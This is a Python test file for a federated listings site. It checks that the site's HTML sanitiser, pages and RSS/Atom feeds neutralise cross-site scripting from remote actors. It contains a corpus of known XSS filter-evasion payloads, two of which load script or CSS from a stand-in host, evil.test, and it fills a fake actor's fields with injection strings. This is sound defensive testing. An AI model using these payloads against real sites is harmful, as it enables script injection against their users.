"""XSS: script in any field that a remote server (or a member) controls, on any page.

Every page is parsed by ``tests/web/htmlcheck.py`` (no script but ours, no
event handler, no ``javascript:``/``data:`` URL, no iframe, svg, math, object,
embed, base or style attribute). What members type in every field, and remote
messages and community posts, are in ``test_xss_pages.py``; here:
the sanitiser against a corpus of known vectors, every field of a *federated
listing* and of its *remote author's* actor document, and the feeds.
"""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import pytest
import pytest_asyncio
from sqlalchemy import select

from domain.models import Listing
from domain.sanitize import clean_html
from tests.fedinet import FakeActor, FediNet, network
from tests.security.helpers import create, deliver, follow, note, rsa_key
from tests.support import TestNode
from tests.web.browser import Browser
from tests.web.htmlcheck import executable_parts

SCRIPT = "<script>alert(1)</script>"
TEXT = f'Chutes {SCRIPT} "><img src=x onerror=alert(2)> <svg onload=alert(3)>'

# Known vectors (OWASP XSS filter evasion cheat sheet, html5sec.org, PortSwigger), each
# one that a naive sanitiser has let through at some point.
VECTORS = [
    SCRIPT,
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<a href="https://ok.test/" onmouseover=alert(1)>x</a>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'https://evil.test/x.css';</style>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<a href="https://ok.test/" class="mention" style="x" rel="opener">ok</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<span class="invisible" data-x="1" onpointerover=alert(1)>x</span>',
]


@pytest.mark.parametrize("vector", VECTORS)
def test_xss_vector_in_remote_html_is_neutralised(vector: str) -> None:
    """Attack: a remote message or post whose HTML is one of the known vectors. What the
    sanitiser keeps, put in a page unescaped, runs nothing; links it keeps are marked
    ``nofollow noopener noreferrer``."""
    cleaned = clean_html(vector)
    assert executable_parts(f"<div>{cleaned}</div>") == [], cleaned
    for link in re.findall(r"<a [^>]*>", cleaned):
        assert 'rel="nofollow noopener noreferrer"' in link, link


@dataclass
class World:
    net: FediNet
    node: TestNode
    evil: FakeActor
    listing_id: int


EVIL_ACTOR = {
    "name": TEXT,
    "summary": f"<p>{SCRIPT}<img src=x onerror=alert(4)></p>",
    "preferredUsername": '"><svg onload=alert(5)>',
    "url": "javascript:alert(6)",
    "icon": {"type": "Image", "url": "javascript:alert(7)"},
}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def world(
    sqlite_module_db: Any, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[World]:
    path = tmp_path_factory.mktemp("xss")
    async with network(path, sqlite_module_db, ["a.test"]) as (net, (a,)):
        evil = FakeActor("https://evil.test/users/x", rsa_key(31), extra=EVIL_ACTOR)
        net.hooks.append(evil)
        await a.structure("ferme", owner="f@a.example")
        await a.person("admin@a.example", role="admin")
        await follow(a, "ferme", evil.uri)
        listing = note(
            evil.uri,
            name=TEXT,
            summary=TEXT,
            content=f"<p>{TEXT}</p><p><a href='javascript:alert(8)'>lien</a></p>",
            url="javascript:alert(9)",
            purpose="offer",
            publishes={
                "type": "Intent",
                "action": "transfer",
                "resourceQuantity": {
                    "hasUnit": '"><b onclick=alert(10)>',
                    "hasNumericalValue": "3",
                },
            },
            reciprocal={
                "type": "Intent",
                "resourceConformsTo": "javascript:alert(11)",
                "resourceQuantity": {"hasUnit": "<script>", "hasNumericalValue": "5"},
            },
            tag=[{"type": "Hashtag", "name": f"#{SCRIPT}", "href": "javascript:alert(12)"}],
            location={"type": "Place", "name": TEXT, "latitude": 43.3, "longitude": -0.4},
            **{
                "entraide:category": '"><script>alert(13)</script>',
                "entraide:modality": "<img src=x onerror=alert(14)>",
                "entraide:unit": '"><b onclick=alert(15)>',
                "entraide:status": "<script>",
            },
        )
        response = await deliver(
            net, "https://a.test/inbox", create(evil.uri, listing), evil.signing_key
        )
        assert response.status_code == 202, response.text
        await net.settle()
        async with a.node.db.session() as session:
            found = await session.scalar(select(Listing.id).where(Listing.ap_id == listing["id"]))
        assert found is not None, "the federated listing was not stored: the test would be void"
        yield World(net, a, evil, found)


@pytest.mark.asyncio(loop_scope="module")
async def test_xss_in_every_field_of_a_federated_listing(world: World) -> None:
    """Attack: a followed remote actor publishes a listing with script vectors in every
    field we read (name, summary, content, url, quantities and units, currency, hashtags,
    place, our own category/modality/unit/status terms), and an actor document with them
    in its name, summary, username, url and icon. Every page showing the listing or its
    author runs nothing."""
    member = Browser(world.node)
    await member.login("f@a.example")
    admin = Browser(world.node)
    await admin.login("admin@a.example")
    anonymous = Browser(world.node)
    pages = [
        (anonymous, "/"),
        (anonymous, "/search"),
        (anonymous, "/search?q=Chutes"),
        (anonymous, "/search?origin=remote"),
        (anonymous, f"/listings/{world.listing_id}"),
        (member, f"/listings/{world.listing_id}"),
        (member, "/timeline"),
        (member, f"/messages/new?to={world.evil.uri}"),
        (admin, "/admin/federation"),
        (admin, f"/listings/{world.listing_id}"),
    ]
    shown = 0
    for browser, path in pages:
        page = await browser.get(path)
        assert page.status == 200, (path, page.status)
        assert executable_parts(page.text) == [], (path, executable_parts(page.text))
        assert SCRIPT not in page.text, path
        shown += "Chutes" in page.text
    assert shown >= 4  # the listing really is on the pages checked


@pytest.mark.asyncio(loop_scope="module")
async def test_xss_in_the_atom_feed_is_text(world: World) -> None:
    """Attack: the same listing read through the Atom feed by a web feed reader. Titles and
    content are ``type="text"`` (the default when no type is given): a reader shows the
    markup as characters."""
    response = await world.node.client().get("/feeds/listings.atom")
    root = ET.fromstring(await response.get_data())  # noqa: S314 (our own feed)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    for entry in root.findall("a:entry", ns):
        for element in (entry.find("a:title", ns), entry.find("a:content", ns)):
            if element is not None:
                assert element.get("type", "text") == "text", ET.tostring(element)


@pytest.mark.asyncio(loop_scope="module")
async def test_xss_in_the_rss_feed_is_escaped(world: World) -> None:
    """Attack: the same listing read through the RSS feed. RSS 2.0 ``<description>`` is
    entity-encoded HTML: readers decode it and render the markup. Text must therefore be
    HTML-escaped before it is XML-escaped, so that what a reader renders is text."""
    response = await world.node.client().get("/feeds/listings.rss")
    root = ET.fromstring(await response.get_data())  # noqa: S314 (our own feed)
    descriptions = [item.findtext("description") or "" for item in root.iter("item")]
    assert any("Chutes" in d for d in descriptions)
    for html in descriptions:
        assert executable_parts(html) == [], html
        assert "<script" not in html.lower(), html
